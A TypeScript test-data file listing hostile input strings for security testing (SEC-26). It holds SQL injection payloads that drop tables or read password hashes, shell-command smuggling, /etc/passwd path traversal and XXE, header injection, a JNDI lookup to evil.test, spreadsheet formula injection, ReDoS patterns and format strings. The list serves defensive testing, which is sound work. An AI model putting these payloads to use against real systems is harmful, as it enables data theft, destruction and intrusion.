/** Texts that are code somewhere: in SQL, a shell, a pattern, a path, a header, a template, a number, an object (SEC-26). */
export const hostileTexts: readonly string[] = [
  // SQL
  `'`,
  `"`,
  `';--`,
  `' or '1'='1`,
  `x') or 1=1--`,
  `'; drop table participant; --`,
  `' union select password_hash from identity_account--`,
  `'||(select pg_sleep(5))||'`,
  `1; select pg_sleep(5)`,
  `$1`,
  `$$; drop table provider; $$`,
  `\\'; drop table provider; --`,
  // What a search could take for more than a letter.
  `%`,
  `_`,
  `\\`,
  `\\%`,
  // Patterns, some of them slow ones.
  `(((((`,
  `(a+)+$`,
  `^(([a-z])+.)+[A-Z]([a-z])+$`,
  `${'a'.repeat(60)}!`,
  // A shell.
  '$(id)',
  '`id`',
  '&& reboot',
  // Paths.
  '../../../../etc/passwd',
  'file:///etc/passwd',
  '%2e%2e%2fetc%2fpasswd',
  // Lines, headers, ends of text.
  'a\r\nBcc: b@evil.test',
  'a%0d%0aSet-Cookie: x=1',
  'a\u2028b',
  'a\u0000b',
  '\u001b[31mred',
  // Letters that are none, turn around, or cannot be seen.
  '\ud800',
  'a\udc00b',
  '\u202egnp.exe',
  '\u200b\u200d\ufeff',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b',
  'ﷺ'.repeat(40),
  '👩‍👩‍👧‍👦🏳️‍🌈',
  'İstanbul ıI ßẞ',
  // Names and values of the language itself.
  '__proto__',
  'constructor',
  'null',
  '1e309',
  '999999999999999999999999',
  // Formats and templates.
  '%s%s%s%n',
  '{0}{{7*7}}${7*7}#{7*7}<%= 7*7 %>',
  '${jndi:ldap://evil.test/x}',
  '=cmd|calc!A1',
  '{"$gt":""}',
  '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]><x>&y;</x>',
  // Long ones.
  'x'.repeat(5_000),
  '\t\n'.repeat(500),
];
